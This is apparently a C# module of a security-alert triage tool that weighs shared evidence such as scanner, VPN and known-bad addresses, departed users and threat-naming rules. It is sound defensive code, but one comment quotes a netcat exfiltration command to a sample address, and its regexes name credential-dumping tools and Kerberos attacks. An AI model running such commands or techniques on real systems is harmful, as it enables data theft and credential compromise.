using System.Text.RegularExpressions;
using Verdict.Alerts;
using Verdict.Ingest;

namespace Verdict.Analysis.Families;

/// <summary>
/// Evidence every family shares: the source address against the context file (the organisation's scanner, the VPN
/// egress, a listed bad address), the detector's own severity (weak), who is involved (privileged, VIP, service account),
/// and for e-mail and unclassified alerts the approved travel that explains a sign-in country the product states (<see cref="StatedSignIn"/>).
/// </summary>
public static partial class CommonEvidence
{
    private const string ContextFile = "context file";

    public static void Add(FamilyCase c, List<Evidence> evidence)
    {
        var ip = c.Alert.SourceIp;
        if (c.Context.KnownScanners.Contains(ip) && !ScannerNeverDoes().IsMatch(c.Alert.Rule) && !ScannerNeverDoes().IsMatch(c.Alert.Description) && !ScannerCallsOut(c.Alert, c.Context))
            evidence.Add(new("scanner", $"Source {ip} is the organisation's own vulnerability scanner (context file known_scanners): its probes carry attack payloads by design", Leaning.Benign, 4.5, ContextFile));
        else if (c.Context.VpnEgress.Contains(ip))
            evidence.Add(new("vpn_egress", $"Source {ip} is the corporate VPN egress (context file vpn_egress): the person behind it signed in to the VPN first", Leaning.Benign, 1.0, ContextFile));
        else if (c.Context.BadIps.Contains(ip))
            evidence.Add(new("bad_ip", $"Source {ip} is listed as a known-bad or anonymising address", Leaning.Malicious, 3.0, ContextFile, Strong: true));
        if (BadAddressInCommand(c.Alert, c.Context) is { } badCommand) evidence.Add(badCommand);
        if (DepartedUserActive(c.Alert, c.Context, succeeded: true) is { } departed) evidence.Add(departed);
        // A sign-in an e-mail or unclassified product reports in its own words (identity and cloud read their own places).
        if (c.Family is AlertFamily.Email or AlertFamily.Generic) StatedSignIn.Add(c, evidence);
        if (DetectorRating(c.Alert.DetectorSeverity) is { } rating) evidence.Add(rating);
        if (RuleNamesThreat(c.Alert.Rule) is { } named) evidence.Add(named);
        else if (ThreatNamed(c.Alert) is { } claimed) evidence.Add(claimed);
        if (c.IsPrivileged)
            evidence.Add(new("privileged", $"{c.Who} is a privileged account: a compromise would be severe", Leaning.Context, 0, ContextFile));
        if (c.Context.IsVip(c.Alert.User))
            evidence.Add(new("vip", $"{c.Who} is a VIP account, a frequent target", Leaning.Context, 0, ContextFile));
    }

    /// <summary>
    /// Credential-theft techniques a vulnerability scanner never performs (directory replication, DRSUAPI GetNCChanges, forged or replayed
    /// Kerberos tickets, NTDS copies, a honeytoken used, Kerberoasting, Impacket's remote execution) nor account changes nor
    /// changes made through an identity provider's admin API (Keycloak's ADMIN_EVENT): from a scanner's address they mean the scanner
    /// host itself is compromised, so the scanner explains nothing. Its discovery, enumeration and login attempts it does by design.
    /// </summary>
    [GeneratedRegex(@"(?i)dcsync|dcshadow|replication of directory|drsuapi|getncchanges|golden ticket|silver ticket|diamond ticket|forged (?:ticket|pac)|pass[- ]the[- ](?:hash|ticket)|overpass|skeleton key|honey ?token|ntds|kerberoast|spn exposure|as-?rep roast|mimikatz|impacket|secretsdump|wmiexec|smbexec|atexec|dcomexec|admin[._ ]event|" + AccountChangePattern)]
    internal static partial Regex ScannerNeverDoes();

    /// <summary>
    /// The scanner's address reaching a public address that the context lists as bad, or that the signature calls malware
    /// or command-and-control: a scanner probes its own targets and never beacons out, so the scanner host itself may be
    /// compromised and its listing explains nothing.
    /// </summary>
    internal static bool ScannerCallsOut(Alert alert, Verdict.Context.EnvironmentContext context) =>
        alert.Field(CanonicalField.DestinationIp) is { } destination && !FamilyCase.IsInternal(destination)
        && (context.BadIps.Contains(destination) || ProductSays(alert).Any(s => s.Text.Length <= 300 && ThreatWords().IsMatch(s.Text)));

    /// <summary>Rule names of an account or privilege change (a grant, a new or updated user, a group member added, a role assigned).</summary>
    private const string AccountChangePattern = @"privilege[._ ]grant|user[._ ](?:update|create|add)|(?:member|user)s? added to|added to (?:a |the )?(?:privileged |admin\w* )?group|group[._ ]member(?:ship)?[._ ]add|role[._ ]assign";

    [GeneratedRegex("(?i)" + AccountChangePattern)]
    internal static partial Regex AccountChange();

    /// <summary>
    /// A command line that names an address the context file lists as bad ("tar czf - /backups | nc 203.0.113.9 4444"):
    /// whoever ran it and from wherever, the host was told to talk to a known-bad address.
    /// </summary>
    public static Evidence? BadAddressInCommand(Alert alert, Verdict.Context.EnvironmentContext context) =>
        alert.CommandLine is { } command && Ipv4InText().Matches(command).Select(m => m.Value).FirstOrDefault(ip => context.BadIps.Contains(ip)) is { } bad
            ? new("bad_ip_in_command", $"The command line names {bad}, listed as a known-bad address in the context file", Leaning.Malicious, 3.0, ContextFile, Strong: true)
            : null;

    /// <summary>
    /// The account's owner has left (context file <c>departed_users</c>) and the alert falls after the day they left: a
    /// leaver's account that still works is how former staff and whoever holds their password get in, whatever the place or
    /// hour. Strong when the activity succeeded (or the alert says nothing of an outcome); a failed attempt is weaker evidence.
    /// </summary>
    public static Evidence? DepartedUserActive(Alert alert, Verdict.Context.EnvironmentContext context, bool? succeeded) =>
        context.DepartedBy(alert.User, alert.Time) is not { } departed ? null
        : succeeded == false
            ? new("departed_user_attempt", $"{alert.User} left on {departed.Left:yyyy-MM-dd} (context file departed_users), yet someone tried to sign in with the account", Leaning.Malicious, 1.0, ContextFile)
            : new("departed_user_active", $"{alert.User} left on {departed.Left:yyyy-MM-dd} (context file departed_users), yet the account is still in use: nobody should be using it", Leaning.Malicious, 3.0, ContextFile, Strong: true);

    /// <summary>IPv4 addresses written in free text (command lines, descriptions, field values).</summary>
    [GeneratedRegex(@"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")]
    internal static partial Regex Ipv4InText();

    /// <summary>Text clipped for a brief: alert content is untrusted and may be huge.</summary>
    public static string Clip(string s, int max = 240)
    {
        var flat = s.ReplaceLineEndings(" ");
        return flat.Length <= max ? flat : flat[..(max - 3)] + "...";
    }

    /// <summary>
    /// A rule that names a specific threat (malware or a C2 beacon, ransomware, a web shell, credential dumping,
    /// tunnelling or exfiltration, a disabled or leaver's account in use) is the detector's own claim of an attack, not an
    /// anomaly: strong, so finding nothing else (no payload, a known region, an internal source) never closes it unseen.
    /// </summary>
    public static Evidence? RuleNamesThreat(string rule) =>
        ThreatWords().Match(rule) is { Success: true } m
            ? new("rule_names_threat", $"The detector's rule names a specific threat ('{m.Value.Trim()}'): a claim of an attack to check, not to close unseen", Leaning.Malicious, 1.5, "alert", Strong: true)
            : null;

    /// <summary>
    /// Whether the product names a threat anywhere in what it says about the alert: the rule, the description, or any
    /// field (a product Verdict has never seen may keep its signature in "attack-name" or "threat_name" while the rule
    /// is read from an event type). Context only (weight 0): it changes no probability, but it holds the alert open
    /// when the only benign evidence is circumstantial (<see cref="HypothesisScorer.HeldOpen"/>). Not read: what an
    /// attacker writes or names (subjects, bodies, URLs, paths, files, command lines), ATT&amp;CK tactic and technique
    /// labels (a category, not a claim: Defender for Cloud's "intent" is its tactic), long free text, and negations ("no malware found").
    /// </summary>
    public static Evidence? ThreatNamed(Alert alert) => ThreatNamed(alert, _ => false);

    /// <summary>As <see cref="ThreatNamed(Alert)"/>, not reading the places (<c>rule</c>, <c>description</c> or a field's key) <paramref name="skip"/> names.</summary>
    public static Evidence? ThreatNamed(Alert alert, Func<string, bool> skip)
    {
        foreach (var (where, text) in ProductSays(alert))
        {
            if (skip(where) || text.Length > 300 || ThreatClaim().Match(text) is not { Success: true } m) continue;
            return new("threat_named", $"the alert names a threat ('{Clip(m.Value.Trim(), 40)}' in {Clip(where, 40)}): where it came from, who ran it or that nothing else was found does not explain it away, only an explanation of the activity closes it",
                Leaning.Context, 0, "alert");
        }
        return null;
    }

    /// <summary>What the product itself says about the alert: its rule, description and fields, less what an attacker writes or names.</summary>
    private static IEnumerable<(string Where, string Text)> ProductSays(Alert alert) =>
        new[] { ("rule", alert.Rule), ("description", alert.Description) }
            .Concat(alert.Fields.Where(f => !FieldWords.Of(f.Key).Any(NotTheProductsClaim)).Select(f => (f.Key, f.Value)));

    /// <summary>Whether a text makes the claim of a threat <see cref="ThreatNamed"/> looks for (negations aside).</summary>
    public static bool ClaimsThreat(string text) => ThreatClaim().IsMatch(text);

    private static readonly HashSet<string> NotTheProductsClaim =
        ["subject", "body", "content", "html", "text", "url", "uri", "urls", "link", "links", "href", "path", "file", "filename", "files", "attachment", "attachments",
         "command", "cmdline", "commandline", "misc", "tactic", "tactics", "technique", "techniques", "mitre", "intent"];

    [GeneratedRegex(@"(?<!\b(no|not|non|without)[- ](a[- ])?)\b(malware|malicious|trojan\w*|virus|worm|ransom\w*|filecoder|backdoor|rootkit|spyware|keylogger|\w*stealer|beacon\w*|cobalt ?strike|command[- ]and[- ]control|c2|cnc|c&c|botnet|web ?shell|mimikatz|credential[- ](dump\w*|theft|steal\w*|harvest\w*)|lsass|(coin|crypto\w*)[- ]?min(er|ing)|miner|stratum|exploit\w*|brute[- ]?forc\w*|brute|phish\w*|exfiltrat\w*|dns[- ]tunnel\w*|hacktool|(threat[- ])?intel(ligence)?[- ](hit|match\w*)|ioc[- ](hit|match\w*)|indicator[- ]match\w*|(bulk|mass)[- ](secret|credential|key)s?[- ]?\w*|(secret|credential|key)s?[- ](bulk|mass)[- ]\w*|(bulk|mass)[- ]retriev\w*|(unusual|anomalous|abnormal|excessive)[- ]data[- ](transfer|download|upload|egress)\w*)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ThreatClaim();

    [GeneratedRegex(@"\b(malware|trojan|beacon|cobalt ?strike|command[- ]and[- ]control|c2|ransom\w*|filecoder|backdoor|web ?shell|mimikatz|credential dump\w*|lsass dump\w*|botnet|(coin|crypto) ?miners?|tunnel\w*|exfiltrat\w*|disabled[- ](in[- ]hr[- ])?(account|user)|leaver|kerberoast\w*|as-?rep[ -]?roast\w*|dcsync|dcshadow|(golden|silver)[ -]ticket|pass[- ]the[- ](hash|ticket))\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ThreatWords();

    /// <summary>The detector's own rating as weak evidence (medium says nothing); null when there is none.</summary>
    public static Evidence? DetectorRating(Severity? rating)
    {
        if (rating is not { } s || s == Severity.Medium) return null;
        var (leaning, weight) = s switch
        {
            Severity.Critical => (Leaning.Malicious, 0.75),
            Severity.High => (Leaning.Malicious, 0.25),
            Severity.Low => (Leaning.Benign, 0.25),
            _ => (Leaning.Benign, 0.5),
        };
        return new("detector_severity", $"The detector rated the alert {s.Word()} (detector ratings are weak evidence)", leaning, weight, "alert");
    }
}
